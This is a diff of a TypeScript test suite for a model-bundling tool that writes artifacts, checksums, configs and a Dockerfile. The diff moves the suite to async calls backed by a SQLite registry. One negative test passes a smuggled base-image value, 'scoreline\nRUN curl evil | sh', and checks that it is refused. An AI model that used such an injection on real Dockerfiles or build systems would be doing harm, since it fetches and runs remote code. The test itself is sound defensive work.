@@ -19,6 +19,7 @@ import { writeBundle, type BundleOptions, type BundleResult } from '../src/deplo
 import type { ScorelineError } from '../src/errors.js';
 import { scanRepository } from '../src/registry/repository.js';
 import { ModelRegistry } from '../src/registry/store.js';
+import { SqliteRegistry } from '../src/store/index.js';
 import { CLI, request, startServer } from './e2e/server.js';
 import { TINY_LOGISTIC_FEATURES, TINY_LOGISTIC_MODEL, writeLogisticModel, writeSumModel, type LogisticFixture } from './fixtures/models.js';
 import { clock } from './fixtures/registry.js';
@@ -32,7 +33,7 @@ interface Env {
   registry: ModelRegistry;
   credit: LogisticFixture[];
   out: (name: string) => string;
-  bundle: (options: Partial<BundleOptions> & { out: string }) => BundleResult;
+  bundle: (options: Partial<BundleOptions> & { out: string }) => Promise<BundleResult>;
 }
 
 /** A registry with `credit` v1, v2 imported from a repository (model.yaml + reference CSV) and `sum` v1-3 registered directly. */
@@ -58,7 +59,7 @@ async function withEnv(fn: (env: Env) => Promise<void>): Promise<void> {
     await fn({
       dir, registry, credit,
       out: (name) => join(dir, 'out', name),
-      bundle: (options) => writeBundle({ registry, model: 'credit', ...options }),
+      bundle: (options) => writeBundle({ registry: new SqliteRegistry(registry), model: 'credit', ...options }),
     });
   } finally {
     registry.close();
@@ -66,9 +67,9 @@ async function withEnv(fn: (env: Env) => Promise<void>): Promise<void> {
   }
 }
 
-function rejects(fn: () => unknown, code: string, message?: RegExp): ScorelineError {
+async function rejects(fn: () => unknown, code: string, message?: RegExp): Promise<ScorelineError> {
   try {
-    fn();
+    await fn();
   } catch (e) {
     const err = e as ScorelineError;
     assert.equal(err.code, code, err.message);
@@ -104,7 +105,7 @@ test('a bundle holds the verified artifacts, model.yaml, reference data, config,
     const umask = process.umask(0o077); // a restrictive umask must not leak into the bundle's modes
     let result: BundleResult;
     try {
-      result = env.bundle({ versions: ['1', 'credit@2'], out });
+      result = await env.bundle({ versions: ['1', 'credit@2'], out });
     } finally {
       process.umask(umask);
     }
@@ -142,7 +143,7 @@ test('a bundle holds the verified artifacts, model.yaml, reference data, config,
 test('SHA256SUMS lists every payload file with its sha256, and sha256sum -c agrees', async () => {
   await withEnv(async (env) => {
     const out = env.out('sums');
-    const result = env.bundle({ versions: ['1', '2'], out });
+    const result = await env.bundle({ versions: ['1', '2'], out });
     const text = readFileSync(join(out, 'SHA256SUMS'), 'utf8');
     const lines = text.trimEnd().split('\n').map((l) => /^([0-9a-f]{64}) {2}(\S+)$/.exec(l));
     assert.ok(lines.every((m) => m !== null), 'sha256sum text format: hash, two spaces, relative path');
@@ -165,7 +166,7 @@ test('SHA256SUMS lists every payload file with its sha256, and sha256sum -c agre
 test('the Dockerfile builds on the base image, copies and verifies the payload, runs as node and serves the bundle', async () => {
   await withEnv(async (env) => {
     const out = env.out('docker');
-    env.bundle({ versions: ['2'], out });
+    await env.bundle({ versions: ['2'], out });
     const text = readFileSync(join(out, 'Dockerfile'), 'utf8');
     assert.match(text, /^# Model bundle written by `scoreline bundle`: model 'credit', version 2\./);
     const ins = instructions(text);
@@ -201,9 +202,9 @@ test('the Dockerfile builds on the base image, copies and verifies the payload, 
     assert.equal(config.server.port, 8080);
 
     const custom = env.out('custom');
-    env.bundle({ versions: ['2'], out: custom, baseImage: 'registry.example.com/ml/scoreline:0.1.0@sha256:' + 'a'.repeat(64) });
+    await env.bundle({ versions: ['2'], out: custom, baseImage: 'registry.example.com/ml/scoreline:0.1.0@sha256:' + 'a'.repeat(64) });
     assert.match(readFileSync(join(custom, 'Dockerfile'), 'utf8'), /^FROM registry\.example\.com\/ml\/scoreline:0\.1\.0@sha256:a{64}$/m);
-    rejects(() => env.bundle({ versions: ['2'], out: env.out('evil'), baseImage: 'scoreline\nRUN curl evil | sh' }), 'BAD_REQUEST', /not a container image reference/);
+    await rejects(() => env.bundle({ versions: ['2'], out: env.out('evil'), baseImage: 'scoreline\nRUN curl evil | sh' }), 'BAD_REQUEST', /not a container image reference/);
     assert.equal(existsSync(env.out('evil')), false);
   });
 });
@@ -211,7 +212,7 @@ test('the Dockerfile builds on the base image, copies and verifies the payload, 
 test('the models folder is a repository the server scans, and the config validates', async () => {
   await withEnv(async (env) => {
     const out = env.out('repo');
-    const result = env.bundle({ versions: ['1', '2'], out });
+    const result = await env.bundle({ versions: ['1', '2'], out });
     const scan = scanRepository(join(out, 'models'));
     assert.deepEqual(scan.skipped, []);
     assert.deepEqual(scan.models.map((m) => m.name), ['credit']);
@@ -228,12 +229,12 @@ test('the models folder is a repository the server scans, and the config validat
 
     // Server settings given to the bundle are validated and written as given, not as resolved defaults.
     const tuned = env.out('tuned');
-    env.bundle({ versions: ['1'], out: tuned, serverConfig: { batching: { maxBatchSize: 32 }, log: { level: 'warn' } } });
+    await env.bundle({ versions: ['1'], out: tuned, serverConfig: { batching: { maxBatchSize: 32 }, log: { level: 'warn' } } });
     assert.deepEqual(YAML.parse(readFileSync(join(tuned, 'config.yaml'), 'utf8')),
       { modelRepository: 'models', dataDir: '/data', batching: { maxBatchSize: 32 }, log: { level: 'warn' } });
-    rejects(() => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { server: { port: 70000 } } }), 'CONFIG_INVALID', /server\.port/);
-    rejects(() => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { dataDir: '/elsewhere' } }), 'BAD_REQUEST', /dataDir/);
-    rejects(() => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { features: { definitions: 'f.yaml' } } }),
+    await rejects(() => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { server: { port: 70000 } } }), 'CONFIG_INVALID', /server\.port/);
+    await rejects(() => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { dataDir: '/elsewhere' } }), 'BAD_REQUEST', /dataDir/);
+    await rejects(() => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { features: { definitions: 'f.yaml' } } }),
       'BAD_REQUEST', /features\.definitions/);
     assert.equal(existsSync(env.out('bad-config')), false);
   });
@@ -242,7 +243,7 @@ test('the models folder is a repository the server scans, and the config validat
 test('a real server started on the bundle\'s config serves the bundled versions', async () => {
   await withEnv(async (env) => {
     const out = env.out('serve');
-    env.bundle({ versions: ['1', '2'], out });
+    await env.bundle({ versions: ['1', '2'], out });
     const server = await startServer(['--config', join(out, 'config.yaml'), '--data-dir', join(env.dir, 'serve-data')]);
     try {
       for (const f of env.credit) {
@@ -261,34 +262,34 @@ test('a real server started on the bundle\'s config serves the bundled versions'
 
 test('default versions: every version the deployment routes to, else the latest', async () => {
   await withEnv(async (env) => {
-    const latest = env.bundle({ out: env.out('latest') });
+    const latest = await env.bundle({ out: env.out('latest') });
     assert.equal(latest.selectedBy, 'latest');
     assert.deepEqual(latest.versions.map((v) => v.version), [2]);
 
     env.registry.saveDeployment('credit', { strategy: 'canary', stable: 1, canary: 2, percent: 10 }, { action: 'deploy' });
-    const canary = env.bundle({ out: env.out('canary') });
+    const canary = await env.bundle({ out: env.out('canary') });
     assert.equal(canary.selectedBy, 'deployment');
     assert.deepEqual(canary.versions.map((v) => v.version), [1, 2]);
 
     // A deployer that wraps the strategy with its runtime state is understood too.
     env.registry.saveDeployment('credit', { strategy: { strategy: 'direct', version: 1 }, step: 0, since: 'x' }, { action: 'deploy' });
-    assert.deepEqual(env.bundle({ out: env.out('direct') }).versions.map((v) => v.version), [1]);
+    assert.deepEqual((await env.bundle({ out: env.out('direct') })).versions.map((v) => v.version), [1]);
     env.registry.saveDeployment('credit', {
       strategy: 'ab', variants: [{ name: 'a', version: 2, weight: 50 }, { name: 'b', version: 1, weight: 50 }, { name: 'c', version: 2, weight: 0 }],
     }, { action: 'deploy' });
-    assert.deepEqual(env.bundle({ out: env.out('ab') }).versions.map((v) => v.version), [1, 2]);
+    assert.deepEqual((await env.bundle({ out: env.out('ab') })).versions.map((v) => v.version), [1, 2]);
 
     env.registry.saveDeployment('credit', { something: 'else' }, { action: 'deploy' });
-    rejects(() => env.bundle({ out: env.out('unknown') }), 'BAD_REQUEST', /name the versions to bundle/);
+    await rejects(() => env.bundle({ out: env.out('unknown') }), 'BAD_REQUEST', /name the versions to bundle/);
     // Explicit versions do not need the deployment.
-    assert.deepEqual(env.bundle({ versions: ['latest'], out: env.out('explicit') }).versions.map((v) => v.version), [2]);
+    assert.deepEqual((await env.bundle({ versions: ['latest'], out: env.out('explicit') })).versions.map((v) => v.version), [2]);
   });
 });
 
 test('versions by alias and latest; bad references are refused before anything is written', async () => {
   await withEnv(async (env) => {
     env.registry.setAlias('sum', 'champion', 2);
-    const r = writeBundle({ registry: env.registry, model: 'sum', versions: ['champion', 'sum@latest', '2'], out: env.out('sum') });
+    const r = await writeBundle({ registry: new SqliteRegistry(env.registry), model: 'sum', versions: ['champion', 'sum@latest', '2'], out: env.out('sum') });
     assert.deepEqual(r.versions.map((v) => v.version), [2, 3]);
     // No reference CSV anywhere for versions registered from bytes: the bundle says so and leaves the keys out.
     assert.equal(r.warnings.length, 1);
@@ -297,12 +298,12 @@ test('versions by alias and latest; bad references are refused before anything i
     assert.match(readFileSync(join(env.out('sum'), 'README.md'), 'utf8'), /## Warnings\n\n- model\.yaml names the reference data 'sum-ref\.csv'/);
     assert.deepEqual(scanRepository(join(env.out('sum'), 'models')).models[0]!.versions.map((v) => v.version), [2, 3]);
 
-    rejects(() => env.bundle({ versions: ['sum@1'], out: env.out('x') }), 'BAD_REQUEST', /names model 'sum'/);
-    rejects(() => env.bundle({ versions: ['9'], out: env.out('x') }), 'VERSION_NOT_FOUND');
-    rejects(() => env.bundle({ versions: ['nope'], out: env.out('x') }), 'ALIAS_NOT_FOUND');
-    rejects(() => env.bundle({ versions: ['credit@'], out: env.out('x') }), 'BAD_REQUEST');
-    rejects(() => env.bundle({ versions: [], out: env.out('x') }), 'BAD_REQUEST');
-    rejects(() => writeBundle({ registry: env.registry, model: 'ghost', out: env.out('x') }), 'MODEL_NOT_FOUND');
+    await rejects(() => env.bundle({ versions: ['sum@1'], out: env.out('x') }), 'BAD_REQUEST', /names model 'sum'/);
+    await rejects(() => env.bundle({ versions: ['9'], out: env.out('x') }), 'VERSION_NOT_FOUND');
+    await rejects(() => env.bundle({ versions: ['nope'], out: env.out('x') }), 'ALIAS_NOT_FOUND');
+    await rejects(() => env.bundle({ versions: ['credit@'], out: env.out('x') }), 'BAD_REQUEST');
+    await rejects(() => env.bundle({ versions: [], out: env.out('x') }), 'BAD_REQUEST');
+    await rejects(() => writeBundle({ registry: new SqliteRegistry(env.registry), model: 'ghost', out: env.out('x') }), 'MODEL_NOT_FOUND');
     assert.equal(existsSync(env.out('x')), false);
   });
 });
@@ -312,19 +313,19 @@ test('versions with different model.yaml settings cannot share a bundle', async 
     const scratch = join(env.dir, 'mixed');
     env.registry.register('mixed', (await writeSumModel(scratch, 'm', 1)).bytes, { config: { batching: { maxBatchSize: 8 } } });
     env.registry.register('mixed', (await writeSumModel(scratch, 'm', 2)).bytes, { config: { batching: { maxBatchSize: 16 } } });
-    rejects(() => writeBundle({ registry: env.registry, model: 'mixed', versions: ['1', '2'], out: env.out('mixed') }), 'CONFLICT',
+    await rejects(() => writeBundle({ registry: new SqliteRegistry(env.registry), model: 'mixed', versions: ['1', '2'], out: env.out('mixed') }), 'CONFLICT',
       /versions 1 and 2 of model 'mixed' have different model\.yaml settings/);
     assert.equal(existsSync(env.out('mixed')), false);
-    assert.equal(writeBundle({ registry: env.registry, model: 'mixed', versions: ['2'], out: env.out('mixed') }).versions.length, 1);
+    assert.equal((await writeBundle({ registry: new SqliteRegistry(env.registry), model: 'mixed', versions: ['2'], out: env.out('mixed') })).versions.length, 1);
   });
 });
 
 test('two bundles of the same versions are byte-identical, also from a reopened registry', async () => {
   await withEnv(async (env) => {
-    env.bundle({ versions: ['1', '2'], out: env.out('one') });
+    await env.bundle({ versions: ['1', '2'], out: env.out('one') });
     const reopened = ModelRegistry.open(join(env.dir, 'data'));
     try {
-      writeBundle({ registry: reopened, model: 'credit', versions: ['2', '1', '2'], out: env.out('two') });
+      await writeBundle({ registry: new SqliteRegistry(reopened), model: 'credit', versions: ['2', '1', '2'], out: env.out('two') });
     } finally {
       reopened.close();
     }
@@ -340,21 +341,21 @@ test('a non-empty folder is refused unless forced; force replaces the previous b
     const out = env.out('reuse');
     mkdirSync(out, { recursive: true });
     writeFileSync(join(out, 'notes.txt'), 'mine');
-    rejects(() => env.bundle({ versions: ['1'], out }), 'CONFLICT', /is not empty/);
+    await rejects(() => env.bundle({ versions: ['1'], out }), 'CONFLICT', /is not empty/);
     assert.deepEqual(readdirSync(out), ['notes.txt']);
 
     rmSync(join(out, 'notes.txt'));
-    env.bundle({ versions: ['1', '2'], out });
-    rejects(() => env.bundle({ versions: ['2'], out }), 'CONFLICT');
+    await env.bundle({ versions: ['1', '2'], out });
+    await rejects(() => env.bundle({ versions: ['2'], out }), 'CONFLICT');
     writeFileSync(join(out, 'notes.txt'), 'mine');
-    const second = env.bundle({ versions: ['2'], out, force: true });
+    const second = await env.bundle({ versions: ['2'], out, force: true });
     assert.equal(existsSync(join(out, 'models', 'credit', '1')), false, 'the old version is gone');
     assert.deepEqual([...tree(out).keys()].filter((f) => f !== 'notes.txt'), second.files);
     assert.equal(readFileSync(join(out, 'notes.txt'), 'utf8'), 'mine', 'files that are not the bundle\'s are left alone');
     assert.deepEqual(scanRepository(join(out, 'models')).models[0]!.versions.map((v) => v.version), [2]);
 
     writeFileSync(join(env.dir, 'a-file'), '');
-    rejects(() => env.bundle({ versions: ['2'], out: join(env.dir, 'a-file') }), 'CONFLICT', /not a folder/);
+    await rejects(() => env.bundle({ versions: ['2'], out: join(env.dir, 'a-file') }), 'CONFLICT', /not a folder/);
   });
 });
 
@@ -368,11 +369,11 @@ test('a tampered artifact in the registry stops the bundle with the tamper error
     writeFileSync(path, bytes);
 
     const out = env.out('tampered');
-    rejects(() => env.bundle({ versions: ['1', '2'], out }), 'ARTIFACT_TAMPERED', new RegExp(`artifact ${sha256} was modified on disk`));
+    await rejects(() => env.bundle({ versions: ['1', '2'], out }), 'ARTIFACT_TAMPERED', new RegExp(`artifact ${sha256} was modified on disk`));
     assert.equal(existsSync(out), false, 'no half bundle');
     assert.equal(env.registry.counters().tamperedRefusals, 1);
     // The intact version still bundles.
-    assert.deepEqual(env.bundle({ versions: ['1'], out }).versions.map((v) => v.version), [1]);
+    assert.deepEqual((await env.bundle({ versions: ['1'], out })).versions.map((v) => v.version), [1]);
   });
 });
 
@@ -384,13 +385,13 @@ test('reference rows come from the registry, never from a path recorded with a v
     writeFileSync(join(elsewhere, 'reference.csv'), 'f0,f1,f2,default\n666,666,666,1\n');
     const bytes = (await writeLogisticModel(join(env.dir, 'scratch'), 'x', 1, { model: { ...TINY_LOGISTIC_MODEL, intercept: 3 } })).bytes;
     env.registry.register('other', bytes, { source: join(elsewhere, '7', 'model.onnx'), config: MODEL_YAML });
-    const r = writeBundle({ registry: env.registry, model: 'other', out: env.out('other') });
+    const r = await writeBundle({ registry: new SqliteRegistry(env.registry), model: 'other', out: env.out('other') });
     assert.equal(r.files.includes('models/other/reference.csv'), false);
     assert.match(r.warnings[0]!, /reference data 'reference\.csv', which the registry does not hold/);
 
     // The stored rows are what the bundle carries, even after the repository's file changed.
     writeFileSync(join(env.dir, 'repo', 'credit', 'reference.csv'), 'f0,f1,f2,default\n9,9,9,0\n');
-    env.bundle({ versions: ['1'], out: env.out('stored') });
+    await env.bundle({ versions: ['1'], out: env.out('stored') });
     assert.equal(readFileSync(join(env.out('stored'), 'models/credit/reference.csv'), 'utf8'), REFERENCE_CSV);
   });
 });
